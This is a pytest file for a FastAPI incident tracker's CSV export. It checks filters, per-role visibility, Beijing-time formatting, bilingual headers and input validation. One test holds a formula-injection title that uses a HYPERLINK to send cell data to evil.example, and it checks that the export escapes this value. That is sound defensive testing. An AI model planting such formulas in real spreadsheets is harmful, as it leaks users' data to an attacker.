"""GET /api/incidents.csv: the list as a CSV file for Excel — the same filters and visibility, Beijing times,
Chinese or English headers, and how many rows matched."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from gisgrid.incidents import demo, export
from gisgrid.incidents.checks import CHANNELS

Auth = Callable[[str], dict[str, str]]


def _rows(res: object) -> list[list[str]]:
    body: bytes = res.content  # type: ignore[attr-defined]
    assert body.startswith("\ufeff".encode()), "a BOM, so Excel reads UTF-8"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_the_csv_is_the_filtered_list(client: TestClient, session: Session, auth: Auth) -> None:
    demo.seed(session, now=datetime.now(UTC))
    headers = auth("dispatcher")
    listed = client.get(
        "/api/incidents", params={"category": "chengguan", "limit": 500}, headers=headers
    ).json()
    res = client.get("/api/incidents.csv", params={"category": "chengguan"}, headers=headers)
    assert res.status_code == 200 and res.headers["content-type"].startswith("text/csv")
    assert res.headers["content-disposition"].startswith('attachment; filename="incidents-')
    rows = _rows(res)
    assert rows[0][:6] == ["编号", "工单编号", "标题", "类别", "类别编码", "状态"]
    assert (
        int(res.headers["X-Total-Count"])
        == int(res.headers["X-Exported"])
        == listed["total"]
        == len(rows) - 1
    )
    assert [int(r[0]) for r in rows[1:]] == [i["id"] for i in listed["items"]]
    first, item = rows[1], listed["items"][0]
    by_header = dict(zip(rows[0], first, strict=True))
    assert (
        by_header["类别编码"].startswith("chengguan")
        and by_header["微网格编码"] == item["grid"]["micro_code"]
    )
    # Beijing time, minutes: 2026-11-27T01:30:00+00:00 is 2026-11-27 09:30.
    reported = datetime.fromisoformat(item["reported_at"]).astimezone(ZoneInfo("Asia/Shanghai"))
    assert by_header["上报时间"] == reported.strftime("%Y-%m-%d %H:%M")
    assert float(by_header["经度(WGS84)"]) == item["location"]["lon"]
    assert by_header["来源"] == export.CHANNEL_ZH[item["channel"]] and set(export.CHANNEL_ZH) == set(CHANNELS)
    english = _rows(
        client.get("/api/incidents.csv", params={"lang": "en", "status": "closed"}, headers=headers)
    )
    assert english[0][:6] == ["id", "ext_id", "title", "category", "category_code", "status"]
    assert len(english) > 1 and {r[5] for r in english[1:]} == {"closed"}


def test_a_grid_worker_exports_only_their_grids(client: TestClient, session: Session, auth: Auth) -> None:
    demo.seed(session, now=datetime.now(UTC))
    worker = auth("gridworker")
    listed = client.get("/api/incidents", params={"limit": 500}, headers=worker).json()
    rows = _rows(client.get("/api/incidents.csv", headers=worker))
    assert {int(r[0]) for r in rows[1:]} == {i["id"] for i in listed["items"]}
    everyone = _rows(client.get("/api/incidents.csv", headers=auth("dispatcher")))
    assert len(rows) < len(everyone)


def test_anonymous_and_bad_filters_are_refused(client: TestClient, auth: Auth) -> None:
    assert client.get("/api/incidents.csv").status_code == 401
    res = client.get("/api/incidents.csv", params={"lang": "fr"}, headers=auth("dispatcher"))
    assert res.status_code == 422 and res.json()["error"]["field"] == "lang"


def test_formula_like_titles_are_neutralised(client: TestClient, session: Session, auth: Auth) -> None:
    demo.seed(session, now=datetime.now(UTC))
    item = client.get("/api/incidents", params={"limit": 1}, headers=auth("dispatcher")).json()["items"][0]
    item["title"] = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    rows = list(csv.reader(io.StringIO(export.to_csv([item]).lstrip("\ufeff"))))
    assert rows[1][rows[0].index("标题")] == "'" + item["title"]
